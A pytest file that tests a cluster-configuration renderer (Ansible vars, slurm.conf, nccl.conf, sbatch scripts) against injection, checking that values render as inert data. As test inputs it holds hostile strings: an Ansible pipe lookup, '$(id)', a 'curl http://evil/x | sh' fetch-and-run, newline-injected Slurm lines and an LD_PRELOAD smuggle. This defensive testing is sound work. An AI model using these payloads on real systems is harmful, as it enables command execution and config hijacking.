"""Rendered files keep spec values as data: each file's own grammar (YAML as Ansible reads it,
slurm.conf's `Key=Value` words, NCCL's `NAME=VALUE` lines, bash) reads every value back intact
and finds nothing the spec did not put there."""

from __future__ import annotations

import json
import re
import shlex
import shutil
import subprocess
import sys
from pathlib import Path
from typing import Any

import pytest

from cluster_tool.render import render_files
from cluster_tool.render.engine import RenderError, load_rendered_yaml
from cluster_tool.spec import load_spec_text
from cluster_tool.spec.models import Cluster
from tests.conftest import with_sections

ROOT = Path(__file__).resolve().parents[3]
LAB = (ROOT / "examples" / "lab.yml").read_text(encoding="utf-8")

# Ansible's `{{ }}` in a value a spec may legitimately hold (a regex): before `!unsafe` the
# controller ran the pipe when a play read the variable.
TEMPLATE_IN_REGEX = r"^(?P<name>\S+)$|{{ lookup('pipe', 'touch MARKER') }}|\$\(id\);`id`#'\"\\"


def hostile_but_valid(marker: Path) -> Cluster:
    """The lab spec with values at the edge of what each field's type allows."""
    pattern = json.dumps(TEMPLATE_IN_REGEX.replace("MARKER", str(marker)))
    text = LAB.replace("  switch_model: MQM8700\n", "  switch_model: 'QM 9700 (r1)/x+y'\n")
    text = text.replace(
        "  leaf_ports: 40\n", f"  leaf_ports: 40\n  switch_name_pattern: {pattern}\n"
    )
    text = text.replace(
        "      default: true\n", '      default: true\n      max_time: "7-00:00:00"\n'
    )
    text = with_sections(
        text,
        "nccl:\n"
        "  extra_env:\n"
        "    NCCL_DEBUG_FILE: /var/log/nccl/%h.%p=x^,@+:y\n"
        "    NCCL_IB_HCA: ^=mlx5_0:1,mlx5_3:1\n"
        "  tests:\n"
        "    min_bytes: 1K\n"
        "    max_bytes: 16g\n"
        "    binary_dir: /opt/n+c.c-l_/b\n"
        "software:\n"
        "  repositories:\n"
        "    cuda: 'https://m.example.net/c/?a=b&c=%20[x]@y#frag'\n",
    )
    return load_spec_text(text, "c.yml")


def ansible_values(group_vars_text: str, tmp_path: Path) -> dict[str, Any]:
    """group_vars/all.yml as a play sees it: loaded as Ansible loads vars files, and every
    variable templated (`{{ name }}`), so a value Ansible would evaluate shows it."""
    from ansible.parsing.dataloader import DataLoader
    from ansible.template import Templar, trust_as_template

    path = tmp_path / "all.yml"
    path.write_text(group_vars_text)
    loader = DataLoader()
    data = loader.load_from_file(str(path), trusted_as_template=True)
    templar = Templar(loader=loader, variables={**data, "inventory_dir": "/inv"})
    return {key: templar.template(trust_as_template("{{ " + key + " }}")) for key in data}


def test_a_template_in_a_spec_value_reaches_ansible_as_data(tmp_path: Path) -> None:
    marker = tmp_path / "ran"
    cluster = hostile_but_valid(marker)
    files = render_files(cluster)
    seen = ansible_values(files["group_vars/all.yml"], tmp_path)
    assert not marker.exists(), "Ansible ran a command from the spec"
    assert seen["cluster_fabric"]["switch_name_pattern"] == cluster.fabric.switch_name_pattern
    # ... and every other variable is what the renderer meant, after Ansible's templating.
    assert seen == {**load_rendered_yaml(files["group_vars/all.yml"]), **_templated(files)}


def _templated(files: dict[str, str]) -> dict[str, Any]:
    # The documented few meant as templates: paths below the inventory folder.
    data = load_rendered_yaml(files["group_vars/all.yml"])
    return {
        key: value.replace("{{ inventory_dir }}", "/inv")
        for key, value in data.items()
        if isinstance(value, str) and "{{ inventory_dir }}" in value
    }


def test_hosts_yml_loads_in_ansible_with_the_values_intact(tmp_path: Path) -> None:
    cluster = hostile_but_valid(tmp_path / "ran")
    out = tmp_path / "inv"
    for rel, text in render_files(cluster).items():
        (out / rel).parent.mkdir(parents=True, exist_ok=True)
        (out / rel).write_text(text)
    inventory = shutil.which("ansible-inventory", path=str(Path(sys.executable).parent))
    if inventory is None:
        pytest.skip("ansible-inventory is not installed")
    result = subprocess.run(
        [inventory, "-i", str(out / "hosts.yml"), "--host", "gpu001"],
        capture_output=True,
        text=True,
        check=True,
    )
    host = json.loads(result.stdout)
    assert host["bmc_address"] == cluster.host("gpu001").bmc_address
    assert host["slurm_cluster_name"] == "lab"
    assert host["cluster_fabric"]["switch_model"] == "QM 9700 (r1)/x+y"


# --- slurm.conf, nccl.conf and the sbatch scripts, each read back with its own grammar -------


def slurm_lines(text: str) -> list[dict[str, str]]:
    """slurm.conf's grammar: `#` to the end of a line is a comment; a line is `Key=Value`
    words split on blanks, a double-quoted value may hold blanks."""
    out = []
    for line in text.splitlines():
        line = line.split("#", 1)[0].strip()
        if not line:
            continue
        words = re.findall(r'([A-Za-z]+)=("[^"]*"|[^\s"]+)(?=\s|$)', line)
        assert " ".join(f"{k}={v}" for k, v in words) == " ".join(line.split()), line
        out.append({k: v.strip('"') for k, v in words})
    return out


def nccl_conf(text: str) -> dict[str, str]:
    """NCCL's reader: every non-comment line is NAME=VALUE to the end of the line."""
    out = {}
    for line in text.splitlines():
        if not line or line.startswith("#"):
            continue
        name, _, value = line.partition("=")
        assert re.fullmatch(r"[A-Za-z_][A-Za-z0-9_]*", name), line
        out[name] = value
    return out


def sbatch_commands(text: str) -> list[list[str]]:
    """The commands bash runs: `bash -n` accepts the script, and its lines (continuations
    joined, comments dropped) split into words with shell operators as words of their own.
    Each command must be written as `shlex.join` writes its words, so no word holds an
    unquoted `$`, backtick or glob that bash would expand."""
    result = subprocess.run(["bash", "-n"], input=text, capture_output=True, text=True)
    assert result.returncode == 0, result.stderr
    joined = text.replace("\\\n", " ")
    commands = []
    for line in joined.splitlines():
        if line.startswith("#SBATCH "):
            # sbatch reads these: one `--option=value` word each.
            assert re.fullmatch(r"#SBATCH --[a-z-]+(=\S+)?", line), line
            continue
        lexer = shlex.shlex(line, posix=True, punctuation_chars=True)
        lexer.whitespace_split = True
        lexer.commenters = "#"
        words = list(lexer)
        if words:
            assert shlex.join(words) == " ".join(line.split()), line
            commands.append(words)
    return commands


def expected_srun(cluster: Cluster, collective: str) -> list[str]:
    tests = cluster.nccl.tests
    return [
        "srun", "--mpi=pmix", "--cpu-bind=none", f"{tests.binary_dir}/{collective}_perf",
        "-b", tests.min_bytes, "-e", tests.max_bytes, "-f", str(tests.step_factor),
        "-g", "1", "-n", str(tests.iters), "-w", str(tests.warmup_iters), "-c", "1",
    ]  # fmt: skip


def check_rendered(cluster: Cluster, files: dict[str, str]) -> None:
    """Every rendered file read back: the spec's values intact, no line or command added."""
    nodes = slurm_lines(files["slurm/nodes.conf"])
    gpu_profiles = {n.profile_name for n in cluster.gpu_nodes()}
    # A partition with GPU nodes also carries its defaults per GPU (both or neither).
    per_gpu = {"DefCpuPerGPU", "DefMemPerGPU"}
    assert [set(line) - per_gpu for line in nodes] == [
        {"NodeName", "CPUs", "Boards", "SocketsPerBoard", "CoresPerSocket", "ThreadsPerCore",
         "RealMemory", "Gres", "Feature", "State"}
    ] * len(gpu_profiles) + [
        {"PartitionName", "Nodes", "Default", "MaxTime", "State"}
    ] * len(cluster.slurm.partitions)  # fmt: skip
    assert all(len(set(line) & per_gpu) in (0, 2) for line in nodes)
    parts = [line for line in nodes if "PartitionName" in line]
    assert [(p["PartitionName"], p["MaxTime"]) for p in parts] == [
        (p.name, p.max_time) for p in cluster.slurm.partitions
    ]
    assert {line["NodeName"] for line in slurm_lines(files["slurm/gres.conf"])[1:]} <= {
        line["NodeName"] for line in nodes if "NodeName" in line
    }
    topology = slurm_lines(files["slurm/topology.conf"])
    assert all(set(line) <= {"SwitchName", "Nodes", "Switches"} for line in topology)

    env = nccl_conf(files["nccl.conf"])
    for name, value in cluster.nccl.extra_env.items():
        assert env[name] == value
    assert set(env) <= {"NCCL_IB_HCA", "NCCL_SOCKET_IFNAME"} | set(cluster.nccl.extra_env) | {
        "SHARP_COLL_ENABLE_SAT",
        "SHARP_COLL_LOCK_ON_COMM_INIT",
    }

    for collective in cluster.nccl.tests.collectives:
        commands = sbatch_commands(files[f"nccl-tests/{collective}.sbatch"])
        assert commands == [["set", "-euo", "pipefail"], expected_srun(cluster, collective)]

    group_vars = load_rendered_yaml(files["group_vars/all.yml"])
    assert group_vars["slurm_cluster_name"] == cluster.slurm_cluster_name
    assert group_vars["cluster_domain"] == (cluster.management.domain or "")
    assert group_vars["nccl_tests_binary_dir"] == cluster.nccl.tests.binary_dir
    assert group_vars.get("cuda_repo_url") == cluster.software.repositories.cuda
    assert group_vars["cluster_fabric"]["switch_name_pattern"] == cluster.fabric.switch_name_pattern
    hosts = load_rendered_yaml(files["hosts.yml"])["all"]
    assert set(hosts["hosts"]) == {n.name for n in cluster.hosts()}


def test_hostile_but_valid_values_parse_back_intact(tmp_path: Path) -> None:
    cluster = hostile_but_valid(tmp_path / "ran")
    check_rendered(cluster, render_files(cluster))


# Values that got past the spec (a Cluster built in code, as the lab builds one): the renderer
# still writes them as data or refuses, never as a new line or command.
def _with_tests(cluster: Cluster, **update: str) -> Cluster:
    tests = cluster.nccl.tests.model_copy(update=update)
    return cluster.model_copy(update={"nccl": cluster.nccl.model_copy(update={"tests": tests})})


def _lab() -> Cluster:
    return load_spec_text(LAB, "lab.yml")


@pytest.mark.parametrize(
    ("field", "value"),
    [
        ("min_bytes", "8; curl http://evil/x | sh"),
        ("max_bytes", "$(touch /tmp/pwned)"),
        ("binary_dir", "/opt/`id`"),
    ],
)
def test_a_shell_value_stays_one_word_of_the_sbatch(field: str, value: str) -> None:
    cluster = _with_tests(_lab(), **{field: value})
    files = render_files(cluster)
    for collective in cluster.nccl.tests.collectives:
        commands = sbatch_commands(files[f"nccl-tests/{collective}.sbatch"])
        assert commands == [["set", "-euo", "pipefail"], expected_srun(cluster, collective)]


def test_a_newline_cannot_add_a_slurm_line() -> None:
    cluster = _lab()
    part = cluster.slurm.partitions[0].model_copy(
        update={"max_time": "INFINITE\nPartitionName=pwn Nodes=ALL"}
    )
    slurm = cluster.slurm.model_copy(update={"partitions": [part]})
    with pytest.raises(RenderError, match="Slurm config"):
        render_files(cluster.model_copy(update={"slurm": slurm}))


def test_a_newline_cannot_add_an_nccl_variable() -> None:
    cluster = _lab()
    nccl = cluster.nccl.model_copy(update={"extra_env": {"NCCL_DEBUG": "INFO\nLD_PRELOAD=/x.so"}})
    with pytest.raises(RenderError, match=r"nccl\.conf"):
        render_files(cluster.model_copy(update={"nccl": nccl}))
